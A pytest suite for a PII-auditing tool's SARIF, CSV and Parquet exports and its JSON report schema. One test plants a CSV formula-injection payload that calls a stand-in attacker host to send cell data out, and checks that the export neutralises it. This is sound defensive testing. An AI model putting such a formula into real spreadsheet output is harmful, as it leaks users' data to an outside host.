"""SARIF, CSV and Parquet exports and the JSON report's schema, on real scans of real files."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from jsonschema import Draft202012Validator
from jsonschema.validators import validator_for
from referencing import Registry
from referencing.exceptions import NoSuchResource

from piiaudit.reports.json_report import REPORT_VERSION, report_dict
from piiaudit.reports.sarif import FINGERPRINT, sarif_dict
from piiaudit.reports.tabular import render_csv, write_csv, write_parquet
from piiaudit.scanner.app import audit
from piiaudit.scanner.app.baseline import Baseline, compare, fingerprint
from piiaudit.scanner.cli import main
from piiaudit.scanner.model import Example, Finding, ScanResult, SourceResult
from piiaudit.scanner.model.tables import FINDINGS_SCHEMA

from .conftest import ROOT, SAMPLE

POLICIES = SAMPLE / "policies"
SARIF_SCHEMA = ROOT / "reports" / "schemas" / "sarif-schema-2.1.0.json"
REPORT_SCHEMA = ROOT / "docs" / "report.schema.json"
LEVELS = {"prohibited": "error", "incorrect": "error", "undisclosed": "warning", "vague": "note", "disclosed": "none"}


def scan(path: Path, policy: str | None = None, config: Path | None = None, subject: str | None = None) -> ScanResult:
    """What `piiaudit scan PATH [--policy … --config … --subject …]` hands to the reports."""
    policy_path = POLICIES / policy if policy else None
    return audit([path], config_path=config, policy_path=policy_path, subject=subject)


def refuse_retrieval(uri: str):
    raise NoSuchResource(ref=uri)


@pytest.fixture(scope="session")
def sarif_validator():
    """The vendored SARIF schema with the validator its $schema names; nothing may be fetched."""
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    validator = validator_for(schema)
    validator.check_schema(schema)
    return validator(schema, registry=Registry(retrieve=refuse_retrieval), format_checker=validator.FORMAT_CHECKER)


@pytest.fixture(scope="session")
def report_validator():
    schema = json.loads(REPORT_SCHEMA.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


@pytest.fixture(scope="session")
def plain_scan() -> ScanResult:
    return scan(SAMPLE)


@pytest.fixture(scope="session")
def policy_scan() -> ScanResult:
    return scan(SAMPLE, "cytrack.yaml", POLICIES / "cytrack-scan.yaml")


@pytest.fixture(scope="session")
def failed_scan(tmp_path_factory) -> ScanResult:
    """A folder with an unreadable Parquet file and a CSV with one malformed row."""
    folder = tmp_path_factory.mktemp("failed")
    (folder / "bad.parquet").write_bytes(b"not parquet")
    (folder / "people.csv").write_text("email,notes\nann@example.com,hi\nbob@example.com,too,many\n")
    return scan(folder)


@pytest.fixture(scope="session")
def verdict_scans(tmp_path_factory) -> list[ScanResult]:
    """One small file against both seed policies: together every verdict occurs."""
    folder = tmp_path_factory.mktemp("verdicts")
    (folder / "signups.csv").write_text(
        "name,dob,cvv,email,ip,clid\n"
        'Amy Lee,2015-06-01,123,amy.lee@gmail.com,203.0.113.9,"Amy Lee" <+61412345678>\n'
        'Ben Ray,1980-01-01,456,ben.ray@outlook.com,198.51.100.7,"Ben Ray" <+61412345679>\n'
    )
    return [scan(folder, "cytrack.yaml", subject="website_users"), scan(folder, "cytracom.yaml", subject="customers")]


@pytest.fixture(scope="session")
def compared_scan(policy_scan) -> ScanResult:
    """The policy scan compared with an earlier one that lacked one finding, had one since resolved, one marked."""
    new, gone, marked = (
        policy_scan.findings[0],
        replace(policy_scan.findings[1], container="old_column"),
        policy_scan.findings[2],
    )
    earlier = replace(policy_scan, findings=[*(f for f in policy_scan.findings if f is not new), gone])
    baseline = Baseline.from_result(earlier)
    baseline.mark(fingerprint(marked), "false_positive", "dpo@example.com", "test values")
    return compare(policy_scan, baseline, Path("nightly.json"))


def assert_valid(validator, document: dict) -> None:
    errors = [f"{list(e.absolute_path)}: {e.message[:200]}" for e in validator.iter_errors(document)]
    assert not errors, errors[:5]


# SARIF


@pytest.mark.parametrize("which", ["plain_scan", "policy_scan", "failed_scan", "compared_scan"])
def test_sarif_is_valid_against_the_vendored_schema(which, request, sarif_validator):
    result = request.getfixturevalue(which)
    log = sarif_dict(result)
    assert_valid(sarif_validator, log)
    assert log["version"] == "2.1.0"
    assert len(log["runs"][0]["results"]) == len(result.findings) > 0


def test_sarif_rule_ids_and_levels_follow_the_verdict(verdict_scans, policy_scan):
    seen = set()
    for result in [*verdict_scans, policy_scan]:
        log = sarif_dict(result)
        rules = log["runs"][0]["tool"]["driver"]["rules"]
        assert len({r["id"] for r in rules}) == len(rules)
        for finding, sarif_result in zip(result.findings, log["runs"][0]["results"], strict=True):
            rule = rules[sarif_result["ruleIndex"]]
            assert sarif_result["ruleId"] == rule["id"] == f"{finding.entity}/{finding.disclosure}"
            assert sarif_result["level"] == rule["defaultConfiguration"]["level"] == LEVELS[finding.disclosure]
            seen.add(finding.disclosure)
    assert seen == set(LEVELS)


def test_sarif_rules_explain_the_verdict(policy_scan, verdict_scans):
    rules = {r["id"]: r for r in sarif_dict(policy_scan)["runs"][0]["tool"]["driver"]["rules"]}
    cvv = rules["CARD_VERIFICATION_CODE/prohibited"]
    assert "PCI DSS v4.0 requirement 3.3.1.2" in cvv["help"]["text"]
    assert "must not be stored" in cvv["shortDescription"]["text"]
    assert "not mentioned in the policy" in rules["US_SSN/undisclosed"]["help"]["text"]
    disclosed = rules["IP_ADDRESS/disclosed"]["help"]["text"]
    ip_quotes = {ref["text"] for f in policy_scan.findings if f.entity == "IP_ADDRESS" for ref in f.policy_refs}
    assert ip_quotes and all(quote in disclosed for quote in ip_quotes)
    vague = {r["id"]: r for r in sarif_dict(verdict_scans[1])["runs"][0]["tool"]["driver"]["rules"]}["CALLER_ID/vague"]
    assert "covered only by the broader" in vague["help"]["text"]


def test_sarif_carries_the_baseline_comparison(compared_scan):
    run = sarif_dict(compared_scan)["runs"][0]
    states = [(r.get("baselineState"), bool(r.get("suppressions"))) for r in run["results"]]
    expected = {"new": ("new", False), "unchanged": ("unchanged", False), "suppressed": ("unchanged", True)}
    assert states == [expected[f.baseline] for f in compared_scan.findings if f.baseline]
    assert sorted(set(states)) == sorted(expected.values())
    assert run["properties"]["baseline"] == report_dict(compared_scan)["baseline"]
    assert [e["container"] for e in run["properties"]["baseline"]["resolved"]] == ["old_column"]


def test_sarif_without_policy_has_one_rule_per_entity_at_warning(plain_scan):
    run = sarif_dict(plain_scan)["runs"][0]
    assert {r["id"] for r in run["tool"]["driver"]["rules"]} == {f.entity for f in plain_scan.findings}
    assert {r["level"] for r in run["results"]} == {"warning"}
    assert "--policy" in run["tool"]["driver"]["rules"][0]["help"]["text"]


def test_sarif_location_of_a_text_file_is_its_line(plain_scan):
    log = sarif_dict(plain_scan)
    base = log["runs"][0]["originalUriBaseIds"]["SCANROOT"]["uri"]
    assert Path(base.removeprefix("file://")) == SAMPLE.resolve()
    (email,) = [
        r
        for r in log["runs"][0]["results"]
        if r["ruleId"] == "EMAIL_ADDRESS"
        and r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "app.log"
    ]
    location = email["locations"][0]["physicalLocation"]
    assert location["artifactLocation"] == {"uri": "app.log", "uriBaseId": "SCANROOT"}
    assert "logicalLocations" not in email["locations"][0]
    masked = email["locations"][0]["message"]["text"].split(" (row")[0]  # e.g. u***@gmail.com
    line = (SAMPLE / "app.log").read_text().splitlines()[location["region"]["startLine"] - 1]
    local, domain = masked.split("***@")
    assert re.search(rf"{re.escape(local)}\S*@{re.escape(domain)}\b", line), (masked, line)


def test_sarif_location_of_a_csv_cell_is_row_and_column(plain_scan):
    results = [r for r in sarif_dict(plain_scan)["runs"][0]["results"] if r["ruleId"] == "PHONE_NUMBER"]
    (phone,) = [
        r for r in results if r["locations"][0].get("logicalLocations") == [{"name": "phone", "kind": "column"}]
    ]
    location = phone["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"] == "crm_customers.csv"
    line = location["region"]["startLine"]  # a line of the file: the header is line 1
    header, *lines = (SAMPLE / "crm_customers.csv").read_text().splitlines()
    (record,) = csv.DictReader([header, lines[line - 2]])
    masked, row = re.fullmatch(r"(.*) \(row (\d+)\)", phone["locations"][0]["message"]["text"]).groups()
    value = record["phone"]
    assert masked[-2:] == value[-2:] and len(masked) == len(value) and masked != value
    assert int(row) == line - 1  # the message keeps the record number


def test_sarif_start_line_is_where_the_record_starts_in_the_file(tmp_path, sarif_validator):
    """A quoted line break in a CSV moves the rows after it; a JSON document's records are on lines of their own."""
    (tmp_path / "notes.csv").write_text('id,note,email\n1,"two\nlines",ann@example.com\n2,x,bob@example.org\n')
    records = [{"id": 1, "contact": {"email": "cid@example.com"}}, {"id": 2, "contact": {"email": "dan@example.net"}}]
    (tmp_path / "people.json").write_text(json.dumps(records, indent=2))
    (tmp_path / "app.log").write_text("start\nlogin eve@example.com\n")
    log = sarif_dict(scan(tmp_path))
    assert_valid(sarif_validator, log)
    starts = {}
    for result in log["runs"][0]["results"]:
        for location in [result["locations"][0], *result.get("relatedLocations", [])]:
            physical = location["physicalLocation"]
            row = int(re.search(r"\(row (\d+)\)", location["message"]["text"])[1])
            starts[physical["artifactLocation"]["uri"], row] = physical["region"]["startLine"]
    text = (tmp_path / "people.json").read_text().splitlines()
    assert starts[("notes.csv", 1)] == 2 and starts[("notes.csv", 2)] == 4
    assert [starts[("people.json", n)] for n in (1, 2)] == [2, 2 + text[2:].index("  {") + 1]
    assert all(text[starts[("people.json", n)] - 1] == "  {" for n in (1, 2))
    assert starts[("app.log", 2)] == 2


def test_sarif_location_in_parquet_has_no_line(plain_scan):
    results = sarif_dict(plain_scan)["runs"][0]["results"]
    parquet = [
        r["locations"][0]
        for r in results
        if r["locations"][0]["message"]["text"]
        and "payments.parquet" in r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    ]
    assert parquet and all("region" not in location["physicalLocation"] for location in parquet)
    assert all(" (row " in location["message"]["text"] for location in parquet)


def test_sarif_json_path_is_a_property_location(policy_scan):
    results = sarif_dict(policy_scan)["runs"][0]["results"]
    chat = [r for r in results if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("chat")]
    assert {"name": "messages.text", "kind": "property"} in [r["locations"][0]["logicalLocations"][0] for r in chat]


def test_sarif_fingerprints_are_stable_and_free_of_rows(tmp_path):
    (tmp_path / "people.csv").write_text("email,phone\nann@example.com,+61 412 345 678\n")
    first = sarif_dict(scan(tmp_path))["runs"][0]["results"]
    (tmp_path / "people.csv").write_text("email,phone\nzed@example.org,\nann@example.com,+61 412 345 678\n")
    second = sarif_dict(scan(tmp_path))["runs"][0]["results"]
    prints = [[r["partialFingerprints"][FINGERPRINT] for r in results] for results in (first, second)]
    assert prints[0] == prints[1] and len(set(prints[0])) == 2
    assert [r["locations"][0]["physicalLocation"]["region"]["startLine"] for r in second] == [2, 3]


def test_sarif_reports_failed_sources_in_the_invocation(failed_scan, plain_scan):
    (invocation,) = sarif_dict(failed_scan)["runs"][0]["invocations"]
    assert invocation["executionSuccessful"] is False
    notes = {n["descriptor"]["id"]: n for n in invocation["toolExecutionNotifications"]}
    assert (
        notes["source-unreadable"]["level"] == "error"
        and "bad.parquet" in notes["source-unreadable"]["message"]["text"]
    )
    skipped = notes["record-skipped"]
    assert skipped["level"] == "warning" and "row 2: expected 2 fields, got 3" in skipped["message"]["text"]
    (clean,) = sarif_dict(plain_scan)["runs"][0]["invocations"]
    assert clean["executionSuccessful"] is True and clean["toolExecutionNotifications"] == []


def test_sarif_database_source_is_a_logical_location_without_password(sarif_validator):
    uri = "postgresql://auditor:s3cret-pw@db.internal:5432/crm?password=s3cret-pw"
    finding = Finding(uri, "public.customers.email", "EMAIL_ADDRESS", "email", 1.0, 4, [Example(2, "a***@example.com")])
    source = SourceResult(uri, "postgresql", records=4)
    result = ScanResult(
        "postgresql://auditor:s3cret-pw@db.internal:5432/crm", [source], [finding], "2026-01-01T00:00:00+00:00", 1.0
    )
    log = sarif_dict(result)
    assert_valid(sarif_validator, log)
    assert "s3cret" not in json.dumps(log)
    (location,) = log["runs"][0]["results"][0]["locations"]
    assert "physicalLocation" not in location
    assert location["logicalLocations"] == [
        {"fullyQualifiedName": "postgresql://auditor@db.internal:5432/crm#public.customers.email", "kind": "column"}
    ]
    assert "s3cret" not in render_csv(result)


# CSV and Parquet


def test_parquet_round_trips_the_findings(policy_scan, tmp_path):
    path = tmp_path / "findings.parquet"
    write_parquet(policy_scan, path)
    table = pq.read_table(path)
    assert table.schema.equals(FINDINGS_SCHEMA)
    rows = {(r["source"], r["container"], r["entity"]): r for r in table.to_pylist()}
    findings = report_dict(policy_scan)["findings"]
    assert len(rows) == table.num_rows == len(findings)
    for f in findings:
        row = rows[(f["source"], f["container"], f["entity"])]
        assert (row["occurrences"], row["confidence"], row["disclosure"]) == (
            f["occurrences"],
            f["confidence"],
            f["disclosure"],
        )
        assert (row["example"], row["example_row"]) == (f["examples"][0]["masked"], f["examples"][0]["row"])
        assert row["categories"] == ";".join(f["categories"])
    cvv = rows[("payments.parquet", "cvv", "CARD_VERIFICATION_CODE")]
    assert cvv["rule"].startswith("pci-dss-cvv") and cvv["policy_quote"] == "payment card details"


def test_csv_has_one_row_per_finding(policy_scan, tmp_path):
    path = tmp_path / "findings.csv"
    write_csv(policy_scan, path)
    rows = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    assert list(rows[0]) == FINDINGS_SCHEMA.names and len(rows) == len(policy_scan.findings)
    assert {r["disclosure"] for r in rows} == {f.disclosure for f in policy_scan.findings}


def test_csv_and_parquet_say_how_each_finding_compares_with_the_baseline(compared_scan, policy_scan, tmp_path):
    states = [row["baseline"] for row in csv.DictReader(io.StringIO(render_csv(compared_scan)))]
    assert states == [f.baseline for f in compared_scan.findings]
    assert {"new", "unchanged", "suppressed"} == set(states)
    assert {row["baseline"] for row in csv.DictReader(io.StringIO(render_csv(policy_scan)))} == {""}
    write_parquet(compared_scan, tmp_path / "f.parquet")
    assert pq.read_table(tmp_path / "f.parquet").column("baseline").to_pylist() == states


def test_csv_neutralises_formula_injection(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    with (tmp_path / "leads.csv").open("w", newline="") as handle:
        csv.writer(handle).writerows(
            [[hostile, "-contact", "twitter"], ["ann@example.com", "+61 412 345 678", "@annlee"]]
        )
    result = scan(tmp_path)
    rows = list(csv.reader(io.StringIO(render_csv(result))))
    cells = [cell for row in rows[1:] for cell in row]
    assert {f"'{hostile}", "'-contact", "'@a***"} <= set(cells) and any(c.startswith("'+") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    path = tmp_path / "out.parquet"
    write_parquet(result, path)
    assert hostile in pq.read_table(path).column("container").to_pylist()  # Parquet keeps the cell as it is


# Leaks, permissions and the command line


def test_no_full_planted_value_in_sarif_csv_or_parquet(policy_scan, plain_scan, planted_values, tmp_path):
    assert len(planted_values) > 500
    for result in (policy_scan, plain_scan):
        write_parquet(result, tmp_path / "f.parquet")
        parquet_text = json.dumps(pq.read_table(tmp_path / "f.parquet").to_pylist())
        for name, text in [
            ("sarif", json.dumps(sarif_dict(result))),
            ("csv", render_csv(result)),
            ("parquet", parquet_text),
        ]:
            leaked = [v for v in planted_values if v in text]
            assert not leaked, f"{name} leaks {len(leaked)} values"


def test_cli_writes_each_format_privately(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "people.csv").write_text("email\nann@example.com\n")
    for fmt, name in [("sarif", "r.sarif"), ("csv", "f.csv"), ("parquet", "f.parquet")]:
        out = tmp_path / name
        result = CliRunner().invoke(main, ["scan", str(tmp_path / "in"), "--format", fmt, "-o", str(out), "-q"])
        assert result.exit_code == 0, result.output
        assert out.stat().st_mode & 0o777 == 0o600
        assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temp file left behind
    assert json.loads((tmp_path / "r.sarif").read_text())["runs"][0]["results"][0]["ruleId"] == "EMAIL_ADDRESS"
    assert pq.read_table(tmp_path / "f.parquet").column("example").to_pylist() == ["a***@example.com"]


def test_cli_sarif_and_csv_to_stdout_parquet_needs_a_file(tmp_path):
    (tmp_path / "people.csv").write_text("email\nann@example.com\n")
    sarif = CliRunner().invoke(main, ["scan", str(tmp_path), "--format", "sarif"])
    assert sarif.exit_code == 0 and json.loads(sarif.output)["version"] == "2.1.0"
    table = CliRunner().invoke(main, ["scan", str(tmp_path), "--format", "csv"])
    assert table.exit_code == 0 and table.output.startswith('"source","container","entity"')
    parquet = CliRunner().invoke(main, ["scan", str(tmp_path), "--format", "parquet"])
    assert parquet.exit_code == 2 and "--format parquet needs -o FILE" in parquet.output
    assert "Traceback" not in parquet.output


# The JSON report's schema


def test_json_reports_match_the_documented_schema(
    report_validator, sample_report, policy_scan, failed_scan, compared_scan
):
    report, _, _ = sample_report
    for document in (report, report_dict(policy_scan), report_dict(failed_scan), report_dict(compared_scan)):
        assert_valid(report_validator, json.loads(json.dumps(document)))
    assert report_validator.schema["properties"]["version"]["const"] == REPORT_VERSION
    assert "report.schema.json" in (ROOT / "docs" / "report-format.md").read_text()


def test_failed_source_report_from_the_cli_matches_the_schema(report_validator, tmp_path):
    (tmp_path / "ok.csv").write_text("email\nann@example.com\n")
    (tmp_path / "bad.parquet").write_bytes(b"nope")
    result = CliRunner().invoke(main, ["scan", str(tmp_path), "--format", "json"])
    assert result.exit_code == 3
    assert_valid(report_validator, json.loads(result.output))


@pytest.mark.parametrize(
    "change",
    [
        lambda r: r["findings"][0].update(value="ann@example.com"),
        lambda r: r["findings"][0].pop("examples"),
        lambda r: r["findings"][0].update(disclosure="fine"),
        lambda r: r["sources"][0].update(status="error", error=None),
        lambda r: r["summary"].update(findings=-1),
    ],
    ids=["undocumented-field", "missing-field", "unknown-verdict", "error-without-reason", "negative-count"],
)
def test_the_schema_rejects_reports_that_break_the_format(change, report_validator, policy_scan):
    report = json.loads(json.dumps(report_dict(policy_scan)))
    change(report)
    assert not report_validator.is_valid(report)
